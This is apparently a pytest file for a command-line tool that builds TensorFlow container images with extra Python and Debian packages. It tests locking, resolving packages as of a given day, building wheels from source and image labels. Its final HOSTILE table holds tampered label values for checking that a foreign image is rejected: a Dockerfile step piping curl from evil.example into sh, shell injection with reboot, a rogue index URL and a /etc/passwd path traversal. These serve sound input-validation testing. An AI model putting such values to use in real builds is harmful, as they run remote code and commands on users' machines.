"""Extra packages on top, through commands: build, then what reads its labels. Real uv, an index on loopback."""

import hashlib
import json
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from support.cli import NO_ENGINE, CliRunner
from support.extra_packages import IMAGE, RealUv, extra_packages_engine, extra_packages_index, make_archive
from support.memory_engine import FakeEngine, stored_image
from support.paths import ROOT
from support.wheels import sha256, write_wheel
from tfimg.core.paths import Workspace
from tfimg.recipe.labels import EXTRA_LABELS
from tfimg.recipe.lock import read_packages

OWN = f"{IMAGE}-own"
SOURCE_ONLY = hashlib.sha256(make_archive("source_only-1.0")).hexdigest()
PIP = next(one.version for one in read_packages(Workspace(root=ROOT).read_lock(IMAGE)) if one.name == "pip")
"""The version that the image has."""


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, str]]:
    with extra_packages_index(tmp_path_factory.mktemp("uv")) as environ:
        yield environ


@pytest.fixture
def engine() -> FakeEngine:
    return extra_packages_engine()


@pytest.fixture
def tfimg(tmp_path: Path, engine: FakeEngine, index: dict[str, str], monkeypatch: pytest.MonkeyPatch) -> CliRunner:
    monkeypatch.chdir(tmp_path)
    return CliRunner(home=tmp_path, services=RealUv(docker=engine), environ=index)


def extra_labels(engine: FakeEngine, name: str = OWN) -> dict[str, str]:
    labels = engine.names[f"tfimg/tensorflow:{name}"].labels
    return {field: labels[label] for field, label in EXTRA_LABELS.items()}


# Building


def test_packages_of_options_and_files_are_one_image_with_labels_that_tell_them(
    tfimg: CliRunner, engine: FakeEngine, tmp_path: Path
) -> None:
    (tmp_path / "mine.txt").write_text("# ours\ncompanion  # as the image\n")
    (tmp_path / "apt.txt").write_text("tree\nffmpeg # sound\n")
    packages = ("--requirements", "mine.txt", "--with", "pandas<3,>=2,arrays", "--apt", "apt.txt")
    tfimg("build", "--tf", "2.15", *packages).succeeded()
    assert {"tfimg/tensorflow:2.15-own", f"tfimg/tensorflow:{OWN}"} <= set(engine.names)
    found = extra_labels(engine)
    assert found["requirements"].split("\n") == ["companion", "pandas<3,>=2", "arrays"]
    assert found["system_packages"] == "tree ffmpeg"
    assert [line.partition(" ")[0] for line in found["lock"].splitlines()[1:]] == [
        "arrays==1.0",
        "companion==2.15.0",
        "pandas==2.2.1",
    ]
    assert "sh /build/debian tree ffmpeg" in engine.dockerfiles[-1]


def test_a_pattern_builds_each_image_with_its_own_lock_of_them(tfimg: CliRunner, engine: FakeEngine) -> None:
    ended = tfimg("build", "2.15.1-cpu-py3.10", IMAGE, "--with", "pandas", "--json")
    assert ended.statuses == {"2.15.1-cpu-py3.10-own": "built", OWN: "built"}
    assert "pandas==2.2.1" in extra_labels(engine)["lock"]
    again = tfimg("build", "2.15.1-cpu-py3.10", IMAGE, "--with", "pandas", "--json")
    assert again.statuses == {"2.15.1-cpu-py3.10-own": "unchanged", OWN: "unchanged"}
    other = tfimg("build", IMAGE, "--with", "pandas==2.2.0", "--json")
    assert other.statuses == {OWN: "built"}


def test_a_conflict_is_refused_before_anything_is_built(tfimg: CliRunner, engine: FakeEngine) -> None:
    for arguments in (("--tf", "2.15"), ("2.15.1-cpu-py3.1?",)):
        message = tfimg("build", *arguments, "--with", "pandas,numpy>=2")
        assert message.code == 4
        assert "numpy>=2 conflicts with TensorFlow 2.15.1, which needs numpy<2.0.0,>=1.23.5;" in message.stderr
    assert engine.built == []


def test_a_day_decides_which_releases_are_seen(tfimg: CliRunner, engine: FakeEngine) -> None:
    for options, version in (
        (("--as-of", "2024-02-01"), "2.2.0"),
        ((), "2.2.1"),
        (("--newest",), "3.0.0"),
    ):
        tfimg("build", "--tf", "2.15", "--with", "pandas", *options).succeeded()
        assert f"pandas=={version}" in extra_labels(engine)["lock"]


@pytest.mark.parametrize(
    ("options", "message"),
    [
        (("--newest",), "--newest is the day of extra packages, and none are requested."),
        (("--as-of", "2024-02-01"), "--as-of is the day of extra packages, and none are requested."),
        (("--with", "a", "--newest", "--as-of", "2024-02-01"), "--newest and --as-of cannot be combined."),
        (("--with", "a", "--as-of", "2999-01-01"), "--as-of 2999-01-01 is in the future"),
        (("--with", "a b"), "--with, line 1: 'a b' is not a requirement such as pandas<3."),
        (("--with", "x @ https://h/x.whl"), "is not a requirement such as pandas<3."),
        (("--with", r"a; os_name != '\n'"), "is not a requirement such as pandas<3."),
        (("--requirements", "absent.txt"), "absent.txt"),
        (("--apt", "absent.txt"), "absent.txt"),
        (("--with", "a", "--find-links", "absent"), "--find-links absent is not a folder."),
    ],
)
def test_options_that_mean_nothing_are_refused(options: tuple[str, ...], message: str, tfimg: CliRunner) -> None:
    ended = tfimg("build", "--tf", "2.15", *options)
    assert ended.code == 2
    assert message in ended.stderr
    assert "Traceback" not in ended.stderr


def test_debian_packages_are_those_of_a_snapshot(tfimg: CliRunner, engine: FakeEngine, tmp_path: Path) -> None:
    (tmp_path / "apt.txt").write_text("tree")
    options = ("--tf", "2.15", "--apt", "apt.txt", "--base", "registry")
    address = "https://mirror.example/archive/20261101T000000Z"
    tfimg("build", *options, "--snapshot", address).succeeded()
    assert engine.built[-1].build_args["SNAPSHOT"] == address
    inspected = tfimg("inspect", "--local", f"tfimg/tensorflow:{OWN}").succeeded()
    assert f"Debian of {address}" in inspected.lines
    tfimg("build", *options).succeeded()
    assert "SNAPSHOT" not in engine.built[-1].build_args
    refused = tfimg("build", *options, "--snapshot", "https://mirror.example/today").refusal(2)
    assert refused.startswith("--snapshot https://mirror.example/today is not an address with a time")


def test_an_empty_file_adds_nothing(tfimg: CliRunner, engine: FakeEngine, tmp_path: Path) -> None:
    (tmp_path / "none.txt").write_text("# nothing yet\n")
    tfimg("build", "--tf", "2.15", "--requirements", "none.txt").succeeded()
    assert f"tfimg/tensorflow:{IMAGE}" in engine.names
    assert f"tfimg/tensorflow:{OWN}" not in engine.names


def test_files_with_a_byte_order_mark_are_read(tfimg: CliRunner, engine: FakeEngine, tmp_path: Path) -> None:
    (tmp_path / "mine.txt").write_bytes(b"\xef\xbb\xbfpandas\r\n")
    (tmp_path / "apt.txt").write_bytes(b"\xef\xbb\xbftree\r\n")
    tfimg("build", "--tf", "2.15", "--requirements", "mine.txt", "--apt", "apt.txt").succeeded()
    found = extra_labels(engine)
    assert (found["requirements"], found["system_packages"]) == ("pandas", "tree")


# Sources


def list_made(engine: FakeEngine) -> list[str]:
    """Return the images in which wheels were made of sources, without the name of the run."""
    return [one.build_args["IMAGE"] for one in engine.built if one.output.startswith("type=local")]


def test_what_exists_only_as_source_is_made_once_for_each_image(
    tfimg: CliRunner, engine: FakeEngine, tmp_path: Path
) -> None:
    wheel = write_wheel(tmp_path, "source_only", {"source_only.py": b""}, requires="shared==1.0")
    engine.wheels = [wheel]
    arguments = ("2.15.1-cpu-py3.10", IMAGE, "--with", "needs-source")
    promised = tfimg("plan", *arguments, DOCKER_HOST=NO_ENGINE).succeeded()
    assert promised.stderr.count("makes the wheels of what exists only as source: source-only 1.0.") == 2
    assert engine.built == []
    assert tfimg("build", *arguments, "--json").statuses == {"2.15.1-cpu-py3.10-own": "built", OWN: "built"}
    assert len(list_made(engine)) == 2
    lock = extra_labels(engine)["lock"]
    assert f"source-only==1.0 --hash=sha256:{sha256(wheel)}\n" in lock
    assert "shared==1.0 " in lock
    assert f"wheels/{wheel.name}" in engine.contexts[-1]
    planned = tfimg("plan", IMAGE, "--with", "needs-source", DOCKER_HOST=NO_ENGINE).succeeded()
    assert ("source-only" in planned.stdout, "makes the wheels" in planned.stderr) == (True, False)
    assert tfimg("build", *arguments, "--json").statuses == {"2.15.1-cpu-py3.10-own": "unchanged", OWN: "unchanged"}
    tfimg("build", f"{IMAGE}-slim", "--with", "source-only").succeeded()
    assert len(list_made(engine)) == 2


def test_wheels_that_need_others_are_made_one_after_another(
    tfimg: CliRunner, engine: FakeEngine, tmp_path: Path
) -> None:
    (tmp_path / "wheels").mkdir()
    write_wheel(tmp_path / "wheels", "ours", {}, requires="source-only")
    needs = {"source_only": "second-source", "second_source": "shared==1.0", "third_source": ""}
    engine.wheels = [write_wheel(tmp_path, name, {}, requires=requires) for name, requires in needs.items()]
    tfimg("build", "--tf", "2.15", "--with", "ours,third-source", "--find-links", "wheels").succeeded()
    names = [line.partition("==")[0] for line in extra_labels(engine)["lock"].splitlines()[1:]]
    assert names == ["ours", "second-source", "shared", "source-only", "third-source"]


def test_nothing_is_made_of_a_request_that_is_refused(tfimg: CliRunner, engine: FakeEngine) -> None:
    assert tfimg("build", "--tf", "2.15", "--with", "source-only,messages==5.0").code == 4
    assert engine.built == []


def test_many_images_are_announced_once_and_before_their_wheels(
    tfimg: CliRunner, engine: FakeEngine, tmp_path: Path
) -> None:
    engine.wheels = [write_wheel(tmp_path, "source_only", {"source_only.py": b""})]
    said = tfimg("build", IMAGE, "2.15.1-cpu-py3.10", "--with", "source-only").succeeded().stderr
    before, *others = said.split("2 images to build: ")
    assert ("Making the wheel" in before, len(others), others[0].count("Making the wheel")) == (False, 1, 2)


def test_no_wheel_is_made_of_a_source_of_a_later_day(tfimg: CliRunner, engine: FakeEngine) -> None:
    refused = tfimg("build", IMAGE, "--with", "late-source==1.0")
    assert (refused.code, "Add --as-of 2025-06-01, and" in refused.stderr) == (4, True)
    assert engine.built == []


def test_an_image_whose_wheel_cannot_be_made_is_one_result_of_many(tfimg: CliRunner, engine: FakeEngine) -> None:
    ended = tfimg("build", IMAGE, "2.15.1-cpu-py3.10", "--with", "source-only", "--json")
    assert ended.statuses == {OWN: "failed", "2.15.1-cpu-py3.10-own": "failed"}


def test_a_folder_is_an_extra_package_of_every_command(tfimg: CliRunner, engine: FakeEngine, tmp_path: Path) -> None:
    (tmp_path / "ours").mkdir()
    (tmp_path / "ours" / "setup.py").write_text("")
    (tmp_path / "r.txt").write_text("-e ./ours\n")
    engine.wheels = [write_wheel(tmp_path, "ours", {"ours.py": b""})]
    planned = tfimg("plan", IMAGE, "--requirements", "r.txt", "--json").succeeded()
    assert "./ours (r.txt, line 1)" in planned.documents[0]["text"]
    assert planned.documents[-1]["identifier"] == OWN
    tfimg("init", "--tf", "2.15", "--requirements", "r.txt").succeeded()
    tfimg("build").succeeded()
    assert extra_labels(engine)["requirements"] == "ours==1.0"


def test_the_wheel_of_a_source_wins_over_that_of_the_index(
    tfimg: CliRunner, engine: FakeEngine, tmp_path: Path
) -> None:
    wheels = [write_wheel(tmp_path, name, {}, version=version) for name, version in (("pandas", "2.2.1"), ("pip", PIP))]
    (tmp_path / "r.txt").write_text("".join(f"./{wheel.name}\n" for wheel in wheels))
    tfimg("build", "--tf", "2.15", "--requirements", "r.txt").succeeded()
    lock = extra_labels(engine)["lock"]
    assert [line.rpartition(":")[2] for line in lock.splitlines()[1:]] == [sha256(wheel) for wheel in wheels]


@pytest.mark.parametrize(("digits", "code"), [(SOURCE_ONLY, 0), ("0" * 64, 12)])
def test_the_hash_of_a_source_is_checked_before_its_code_runs(
    digits: str, code: int, tfimg: CliRunner, engine: FakeEngine, tmp_path: Path
) -> None:
    engine.wheels = [write_wheel(tmp_path, "source_only", {"source_only.py": b""})]
    (tmp_path / "r.txt").write_text(f"source-only==1.0 --hash=sha256:{digits}\n")
    assert tfimg("build", "--tf", "2.15", "--requirements", "r.txt").code == code
    assert len(list_made(engine)) == (code == 0)


# Planning


def test_a_plan_says_what_a_build_would_put_on_top(tfimg: CliRunner, engine: FakeEngine, tmp_path: Path) -> None:
    (tmp_path / "mine.txt").write_text("companion\n")
    (tmp_path / "apt.txt").write_text("tree\nffmpeg=7:5.1\n")
    packages = ("--requirements", "mine.txt", "--with", "pandas<3", "--apt", "apt.txt", "--as-of", "2024-02-01")
    options = ("2.15.1-cpu-py3.11", *packages)
    planned = tfimg("plan", *options, "--json").succeeded().json
    assert (planned["identifier"], planned["layers"][-3:]) == (OWN, ["packages", "own", "debian"])
    assert planned["extra_packages"]["requirements"] == ["companion", "pandas<3"]
    assert planned["extra_packages"]["system_packages"] == ["tree", "ffmpeg=7:5.1"]
    (job,) = planned["shards"]
    assert job["images"] == [IMAGE]
    assert job["command"] == (
        f"tfimg build {IMAGE} --requirements=mine.txt '--with=pandas<3' --apt=apt.txt --as-of=2024-02-01"
    )
    shown = " ".join(tfimg("plan", *options).succeeded().stdout.split())
    assert "added by a user asked: companion, pandas<3; Debian: tree, ffmpeg 7:5.1" in shown
    assert "pandas 2.2.0 2024-01-20" in shown
    assert (engine.built, engine.names) == ([], {})
    tfimg("build", *options).succeeded()
    assert set(planned["tags"]) == {name for name in engine.names if "base" not in name}
    assert extra_labels(engine)["lock"] == planned["extra_packages"]["lock"]


def test_a_plan_says_of_what_day_packages_are_and_what_they_move(tfimg: CliRunner) -> None:
    options = ("2.15.1-cpu-py3.11", "--with", "pandas<2.2.1,mover,wheel<0.46,steady")
    planned = tfimg("plan", *options, "--json").succeeded().json
    found = {one["name"]: one for one in planned["packages"]}
    assert list(found) == ["mover", "packaging", "pandas", "steady", "wheel"]
    assert (found["mover"]["uploaded"], found["mover"]["is_asked"], found["mover"]["newest"]) == (
        "2024-01-01",
        True,
        None,
    )
    assert (found["packaging"]["before"], found["packaging"]["is_asked"]) == ("24.0", False)
    assert (found["packaging"]["newest"], found["packaging"]["newest_day"]) == ("24.0", "2024-03-10")
    assert found["pandas"]["newest"] == "2.2.1"
    assert found["wheel"]["fix"] == "fixes CVE-2026-24049"
    (note,) = planned["notes"]
    assert note.startswith("wheel 0.45.0 replaces 0.46.2, which fixes CVE-2026-24049")
    shown = tfimg("plan", *options).succeeded().stdout
    assert "packaging 23.2 2023-10-01 - 24.0 24.0 of 2024-03-10" in " ".join(shown.split())
    assert note in shown


def test_debian_packages_are_named_in_the_command_too(tfimg: CliRunner, tmp_path: Path) -> None:
    (tmp_path / "tools").write_text("git")
    packages = ("--apt", "libgl1,libglib2.0-0=2.74", "--apt", "tools")
    planned = tfimg("plan", "2.15.1-cpu-py3.11", *packages, "--json").succeeded().json
    assert planned["extra_packages"]["system_packages"] == ["libgl1", "libglib2.0-0=2.74", "git"]
    refused = tfimg("plan", "2.15.1-cpu-py3.11", "--apt", "libgl1,Git").refusal(2)
    assert refused.startswith("--apt: 'Git' is not the name of a Debian package.")


def test_a_build_says_what_debian_packages_the_wheels_need(tfimg: CliRunner) -> None:
    needed = "opencv-python needs Debian's libgl1 and libglib2.0-0: add --apt libgl1,libglib2.0-0"
    for command in ("build", "plan"):
        ended = tfimg(command, "2.15.1-cpu-py3.11", "--with", "opencv-python").succeeded()
        assert needed in ended.stdout + ended.stderr
    there = tfimg("build", "2.15.1-cpu-py3.11", "--with", "opencv-python", "--apt", "libgl1,libglib2.0-0").succeeded()
    assert "needs Debian's" not in there.stdout + there.stderr


def test_jobs_of_a_plan_resolve_packages_as_of_its_day(tfimg: CliRunner) -> None:
    jobs = tfimg("plan", "2.15.1-cpu-py3.1?", "--with", "pandas", "--newest", "--format", "github").succeeded().json
    assert [(job["name"], job["images"]) for job in jobs["include"]] == [
        ("2.15.1-cpu-py3.10-own", ["2.15.1-cpu-py3.10"]),
        (OWN, [IMAGE]),
    ]
    assert jobs["include"][1]["command"] == f"tfimg build {IMAGE} --with=pandas --as-of={tfimg.services.today}"


def test_a_plan_of_packages_alone_is_the_image_that_a_build_makes(tfimg: CliRunner, tmp_path: Path) -> None:
    (tmp_path / "tfimg.toml").write_text('tf = "2.15"\nwith = "pandas"\nrepository = "team/tensorflow"\n')
    planned = tfimg("plan", "--with", "arrays", "--json").succeeded().json
    assert planned["extra_packages"]["requirements"] == ["arrays"]
    assert planned["tags"][0] == f"team/tensorflow:{OWN}"
    assert tfimg("plan", "2.16.2-cpu-py3.11", "--json").succeeded().json["identifier"] == "2.16.2-cpu-py3.11"


@pytest.mark.parametrize(
    ("options", "code", "message"),
    [
        (("--with", "numpy>=2"), 4, "numpy>=2 conflicts with TensorFlow 2.15.1, which needs numpy<2.0.0,>=1.23.5;"),
        (("--newest",), 2, "--newest is the day of extra packages, and none are requested."),
        (("--as-of", "2024-02-01"), 2, "--as-of is the day of extra packages, and none are requested."),
        (("--apt", "absent.txt"), 2, "absent.txt"),
    ],
)
def test_a_plan_refuses_what_a_build_refuses(
    options: tuple[str, ...], code: int, message: str, tfimg: CliRunner
) -> None:
    planned, built = (tfimg(command, "2.15.1-cpu-py3.11", *options) for command in ("plan", "build"))
    assert planned.code == built.code == code
    assert message in planned.stderr


# What is known of a built image comes from its labels


@pytest.fixture
def built(tfimg: CliRunner, engine: FakeEngine, tmp_path: Path) -> CliRunner:
    (tmp_path / "apt.txt").write_text("tree")
    tfimg("build", "--tf", "2.15", "--with", "pandas", "--apt", "apt.txt").succeeded()
    return tfimg


def test_an_image_with_packages_is_validated_and_run_by_its_labels(built: CliRunner, engine: FakeEngine) -> None:
    ended = built("validate", f"tfimg/tensorflow:{OWN}", "--json").succeeded()
    assert ended.documents[-1]["identifier"] == OWN
    facts = [content for run in engine.ran for content, _ in run.files.values() if b'"packages"' in content]
    assert json.loads(facts[-1])["packages"]["pandas"] == "2.2.1"
    command = built("run", f"tfimg/tensorflow:{OWN}", "--dry-run", "--json").succeeded().json
    assert command["image"] == OWN


def test_inspect_lists_what_a_user_added(built: CliRunner) -> None:
    found = built("inspect", "--local", f"tfimg/tensorflow:{OWN}").succeeded().stdout
    assert "asked: pandas; Python: pandas 2.2.1; Debian: tree" in " ".join(found.split())
    document = built("inspect", "--local", f"tfimg/tensorflow:{OWN}", "--json").succeeded().documents[-1]
    assert document["extra_packages"]["requirements"] == ["pandas"]
    assert document["row"]["identifier"] == OWN


def test_an_identifier_of_such_an_image_is_no_pattern_of_the_matrix(tfimg: CliRunner) -> None:
    for command in ("plan", "list", "build"):
        message = tfimg(command, OWN).refusal(4)
        assert message.endswith(
            "Leave -own out and name the packages with `tfimg build --with`. `tfimg list` shows all of them."
        )


HOSTILE = {
    "a huge lock": {"lock": "a==1 --hash=sha256:" + "0" * 10_000_000},
    "a lock with a command": {"lock": "pandas==1 --hash=sha256:" + "0" * 64 + "; reboot"},
    "an index in the lock": {"lock": "--index-url http://evil.example/\n"},
    "a path in the lock": {"lock": "../../etc/passwd==1 --hash=sha256:" + "0" * 64},
    "escape sequences": {"requirements": "\x1b[2Jpandas"},
    "many requirements": {"requirements": "\n".join(f"p{number}" for number in range(2000))},
    "an address": {"requirements": "x @ http://evil.example/x.whl"},
    "a step of a Dockerfile": {"system_packages": "tree\nRUN curl http://evil.example | sh"},
    "a shell": {"system_packages": "tree;reboot $(reboot)"},
    "an option of apt-get": {"system_packages": "--allow-unauthenticated"},
    "many packages": {"system_packages": " ".join(f"p{number}" for number in range(2000))},
}


@pytest.mark.parametrize("changed", HOSTILE.values(), ids=HOSTILE)
def test_labels_of_a_foreign_image_are_judged_before_they_are_used(
    changed: dict[str, str], built: CliRunner, engine: FakeEngine
) -> None:
    labels = dict(engine.names[f"tfimg/tensorflow:{OWN}"].labels)
    labels |= {EXTRA_LABELS[name]: text for name, text in changed.items()}
    engine.names["tfimg/tensorflow:evil"] = replace(stored_image(labels=labels), digest="sha256:" + "e" * 64)
    for command in (("validate",), ("run", "--dry-run"), ("inspect", "--local")):
        ended = built(*command, "tfimg/tensorflow:evil")
        assert "Traceback" not in ended.stderr
        assert "\x1b" not in ended.stdout + ended.stderr
        assert len(ended.stdout + ended.stderr) < 20_000
        if command[0] != "inspect":
            assert ended.code == 3, ended.stderr
            assert "do not say which packages a user added" in ended.stderr
